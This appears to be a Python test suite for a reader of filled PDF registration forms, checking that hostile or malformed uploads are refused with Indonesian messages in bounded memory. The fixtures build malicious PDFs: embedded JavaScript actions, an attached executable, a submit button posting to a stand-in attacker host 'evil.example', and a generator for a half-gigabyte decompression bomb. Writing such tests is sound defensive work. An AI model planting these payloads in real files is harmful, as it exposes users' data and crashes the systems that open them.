"""PDFs that come back: our own forms are read, everything else is told apart and answered kindly, in bounded time."""

import resource
import zipfile
from collections.abc import Callable
from functools import cache
from io import BytesIO
from pathlib import Path
from subprocess import run as run_program
from zlib import compressobj

import pikepdf
import pytest
from PIL import Image

from forms.definition import FormDefinition, Question
from forms.fillable import MOST_BYTES, Filled, PdfRefused, Unread, check_program, read_filled, values_of
from forms.kinds import KINDS
from forms.pdf_batch import MOST_FILES, read_many
from tests.support.fillable_forms import form_of
from tests.support.filling import fill_with_pdfium

# One process prints them all, so that each paper is printed once.
pytestmark = pytest.mark.xdist_group(__name__)

STORYTELLING = KINDS["storytelling"].definition


@cache
def filled_form(name: str = "Siti") -> bytes:
    return fill_with_pdfium(form_of("storytelling"), {"name": name, "sex": "P"})


def changed(change: str, **saving: object) -> bytes:
    """The filled form after one thing was done to it."""
    out = BytesIO()
    with pikepdf.open(BytesIO(filled_form())) as pdf:
        CHANGES[change](pdf)
        pdf.save(out, **saving)  # type: ignore[arg-type]
    return out.getvalue()


def script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def script_in_a_field(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm.Fields[2].AA = pikepdf.Dictionary(K=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="1"))


def script_by_name(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array()))


def attachment(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["x.exe"] = b"MZ"


def sending_button(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Annots[3].A = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://evil.example")


def xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp/>")


def many_fields(pdf: pikepdf.Pdf) -> None:
    for number in range(10_000):
        field = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T=f"f{number}", V="x"
        )
        pdf.pages[0].Annots.append(pdf.make_indirect(field))
        pdf.Root.AcroForm.Fields.append(pdf.pages[0].Annots[-1])


def deep_field(pdf: pikepdf.Pdf) -> None:
    parent = pdf.make_indirect(pikepdf.Dictionary(T="top"))
    for number in range(5_000):
        parent = pdf.make_indirect(pikepdf.Dictionary(T=f"{number}", Parent=parent))
    pdf.pages[0].Annots[3].Parent = parent


def field_that_is_its_own_parent(pdf: pikepdf.Pdf) -> None:
    widget = pdf.pages[0].Annots[3]
    widget.Parent = widget


def pages_without_end(pdf: pikepdf.Pdf) -> None:
    for _ in range(500):
        pdf.add_blank_page()


def page_tree_in_a_ring(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Pages.Kids.append(pdf.Root.Pages)


def no_stamp(pdf: pikepdf.Pdf) -> None:
    del pdf.Root.AcroForm.Fields[0]
    del pdf.pages[0].Annots[0]


def nothing(pdf: pikepdf.Pdf) -> None:
    pass


def page_on_opening(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[pdf.pages[0].obj, pikepdf.Name.Fit])


def page_and_then_a_script(pdf: pikepdf.Pdf) -> None:
    page_on_opening(pdf)
    pdf.Root.OpenAction.Next = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def field_named(pdf: pikepdf.Pdf, name: str) -> pikepdf.Object:
    [field] = [one for one in pdf.Root.AcroForm.Fields.as_list() if str(one.T) == name]
    return field


def long_text_as_stream(pdf: pikepdf.Pdf) -> None:
    field_named(pdf, "story_title").V = pdf.make_stream("Si Kancil 𝄞".encode("utf-16"))


def renamed_consent(pdf: pikepdf.Pdf) -> None:
    consent = field_named(pdf, "consent_data")
    consent.AP.N = pikepdf.Dictionary({"/Ja": consent.AP.N["/yes"], "/Off": consent.AP.N["/Off"]})
    consent.V = consent.AS = pikepdf.Name.Ja


def two_boxes_of_one_choice(pdf: pikepdf.Pdf) -> None:
    for kid in field_named(pdf, "grade").Kids.as_list()[3:5]:
        kid.AS = pikepdf.Name("/" + next(str(key)[1:] for key in kid.AP.N if key != "/Off"))


def value_behind_an_empty_box(pdf: pikepdf.Pdf) -> None:
    field_named(pdf, "consent_data").V = pikepdf.Name.yes


CHANGES = {
    one.__name__: one
    for one in (
        script, script_in_a_field, script_by_name, attachment, sending_button, xfa, many_fields, deep_field,
        field_that_is_its_own_parent, pages_without_end, page_tree_in_a_ring, no_stamp, nothing,
        page_on_opening, page_and_then_a_script, long_text_as_stream, renamed_consent, two_boxes_of_one_choice,
        value_behind_an_empty_box,
    )
}  # fmt: skip


def encrypted() -> bytes:
    return changed("nothing", encryption=pikepdf.Encryption(user="rahasia", owner="rahasia"))


def printed_flat() -> bytes:
    done = run_program(["pdftocairo", "-pdf", "-", "-"], input=filled_form(), check=True, capture_output=True)
    return done.stdout


def scanned() -> bytes:
    out = BytesIO()
    Image.new("L", (600, 900), 255).save(out, "PDF")
    return out.getvalue()


def letter() -> bytes:
    page = b"BT /F 12 Tf 50 700 Td (Undangan rapat) Tj ET"
    pdf = pikepdf.new()
    pdf.add_blank_page()
    font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    pdf.pages[0].Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F=font))
    pdf.pages[0].Contents = pdf.make_stream(page)
    out = BytesIO()
    pdf.save(out)
    return out.getvalue()


@cache
def bomb() -> bytes:
    """A PDF whose catalog is in an object stream that unpacks to half a gigabyte."""
    packer = compressobj(9)
    stream = packer.compress(b"3 0 ") + b"".join(packer.compress(bytes(1_000_000)) for _ in range(500)) + packer.flush()
    body = b"%%PDF-1.7\n1 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(stream)
    body += stream + b"\nendstream endobj\n"
    entries = b"\x01\x00\x00\x09\x00" + b"\x01" + len(body).to_bytes(3, "big") + b"\x00" + b"\x02\x00\x00\x01\x00"
    table = b"2 0 obj <</Type/XRef/Size 4/W[1 3 1]/Index[1 3]/Root 3 0 R/Length %d>>stream\n%b\nendstream endobj\n"
    return body + table % (len(entries), entries) + b"startxref\n%d\n%%%%EOF" % len(body)


REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "not a pdf": (lambda: b"Nama;Kelas\n", "bukan PDF"),
    "too many bytes": (lambda: b"%PDF-1.7" + b" " * MOST_BYTES, "lebih dari 5 MB"),
    "encrypted": (encrypted, "kata sandi"),
    "printed flat": (printed_flat, "sudah dicetak menjadi PDF biasa"),
    "scanned": (scanned, "hasil pindai"),
    "letter": (letter, "bukan formulir pendaftaran kami"),
    "truncated": (lambda: filled_form()[:9000], "rusak|bukan formulir"),
    "only the beginning": (lambda: b"%PDF-1.7\n%\xe2\xe3\n", "rusak"),
    "bomb": (bomb, "berat|rusak"),
    "script": (lambda: changed("script"), "JavaScript"),
    "page and then a script": (lambda: changed("page_and_then_a_script"), "JavaScript"),
    "script in a field": (lambda: changed("script_in_a_field"), "JavaScript"),
    "script by name": (lambda: changed("script_by_name"), "JavaScript"),
    "attachment": (lambda: changed("attachment"), "lampiran"),
    "sending button": (lambda: changed("sending_button"), "JavaScript"),
    "xfa": (lambda: changed("xfa"), "bukan formulir pendaftaran kami"),
    "10,000 fields": (lambda: changed("many_fields"), "bukan formulir pendaftaran kami"),
    "deeply nested": (lambda: changed("deep_field"), "rusak"),
    "own parent": (lambda: changed("field_that_is_its_own_parent"), "rusak"),
    "500 pages": (lambda: changed("pages_without_end"), "lebih dari 100 halaman"),
    "page tree in a ring": (lambda: changed("page_tree_in_a_ring"), "halaman"),
    "fields of somebody else": (lambda: changed("no_stamp"), "bukan formulir pendaftaran kami"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_pdf_is_refused_with_its_own_sentence(name: str) -> None:
    make, sentence = REFUSED[name]
    data = make()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

    with pytest.raises(PdfRefused, match=sentence):
        read_filled(data)

    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 64_000  # kB


def test_form_saved_again_by_another_program_is_read() -> None:
    assert values_of(read_filled(changed("nothing")), STORYTELLING) == {"name": "Siti", "sex": "P"}


@pytest.mark.parametrize(
    ("change", "more"),
    [
        ("page_on_opening", {}),
        ("long_text_as_stream", {"story_title": "Si Kancil 𝄞"}),
        ("renamed_consent", {"consent_data": "yes"}),
        # Nobody guesses which of two was meant: the form says "Pilih salah satu".
        ("two_boxes_of_one_choice", {"grade": "4; 5"}),
        # What the person saw was an empty box.
        ("value_behind_an_empty_box", {}),
    ],
)
def test_what_programs_make_of_a_form_is_read(change: str, more: dict[str, str]) -> None:
    assert values_of(read_filled(changed(change)), STORYTELLING) == {"name": "Siti", "sex": "P", **more}


def test_password_that_only_forbids_changing_does_not_lock() -> None:
    data = changed("nothing", encryption=pikepdf.Encryption(owner="kantor", user=""))

    assert read_filled(data).fields["name"] == "Siti"


def test_form_of_another_program_is_told_apart() -> None:
    filled = read_filled(filled_form())

    with pytest.raises(PdfRefused, match="untuk kegiatan LB26, bukan PK26"):
        check_program(filled, "PK26", [1])


def test_old_version_is_taken_as_long_as_staff_allow() -> None:
    filled = read_filled(filled_form())

    check_program(filled, "LB26", [1, 2])
    with pytest.raises(PdfRefused, match="versi lama"):
        check_program(filled, "LB26", [2])


def test_code_without_end_is_not_said_in_full() -> None:
    with pytest.raises(PdfRefused) as refused:
        check_program(Filled("A" * 5_000_000, "", "", {}), "LB26", [1])
    assert len(str(refused.value)) < 200


@pytest.mark.parametrize("stamp", ["", "LB26", "LB26@", "LB26@x", "LB26@99999999999"])
def test_stamp_that_makes_no_sense_has_no_version(stamp: str) -> None:
    assert Filled(stamp, "", "", {}).version == 0


def test_fields_that_the_version_does_not_have_are_not_taken() -> None:
    narrower = FormDefinition((Question("name", "text", "Nama"),))

    assert values_of(read_filled(filled_form()), narrower) == {"name": "Siti"}


def test_many_forms_are_read_each_for_itself() -> None:
    files = [("siti.pdf", filled_form()), ("budi.pdf", filled_form("Budi")), ("surat.pdf", letter())]

    siti, budi, surat = read_many(files)

    assert isinstance(siti, Filled)
    assert isinstance(budi, Filled)
    assert (siti.fields["name"], siti.name, budi.fields["name"]) == ("Siti", "siti.pdf", "Budi")
    assert isinstance(surat, Unread)
    assert "bukan formulir" in surat.sentence


def zip_of(files: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def test_zip_stands_for_the_forms_in_it() -> None:
    data = zip_of({"kelas 5/siti.pdf": filled_form(), "__MACOSX/kelas 5/._siti.pdf": b"x", "catatan.txt": b"halo"})

    siti, note = read_many([("kelas 5.zip", data)])

    assert isinstance(siti, Filled)
    assert siti.name == "siti.pdf"
    assert note == Unread("catatan.txt", "Berkas ini bukan PDF. Unggah formulir PDF yang sudah diisi dan disimpan.")


def test_file_that_comes_twice_is_read_once() -> None:
    first, second = read_many([("siti.pdf", filled_form()), ("salinan.pdf", filled_form())])

    assert isinstance(first, Filled)
    assert second == Unread("salinan.pdf", "Sama dengan berkas siti.pdf; dibaca sekali.")


def test_one_heavy_file_does_not_spoil_the_others() -> None:
    heavy, siti = read_many([("bom.pdf", bomb()), ("siti.pdf", filled_form())])

    assert isinstance(heavy, Unread)
    assert isinstance(siti, Filled)


ZIPS = {
    "broken": zip_of({"a.pdf": b"x" * 9000})[:50],
    "too many files": zip_of({f"{number}.pdf": b"" for number in range(MOST_FILES + 1)}),
    "too much in it": zip_of({f"{number}.pdf": b"%PDF" + bytes(MOST_BYTES - 4) for number in range(15)}),
}


@pytest.mark.parametrize("name", ZIPS)
def test_zip_that_cannot_be_trusted_is_refused(name: str) -> None:
    with pytest.raises(PdfRefused, match="ZIP"):
        read_many([("formulir.zip", ZIPS[name])])


def test_text_of_a_field_is_cut_at_its_bound(tmp_path: Path) -> None:
    with pikepdf.open(BytesIO(filled_form())) as pdf:
        [name] = [field for field in pdf.Root.AcroForm.Fields if str(field.T) == "name"]
        name.V = "a" * 3_000_000
        pdf.save(tmp_path / "long.pdf")

    assert len(read_filled((tmp_path / "long.pdf").read_bytes()).fields["name"]) == 20_000
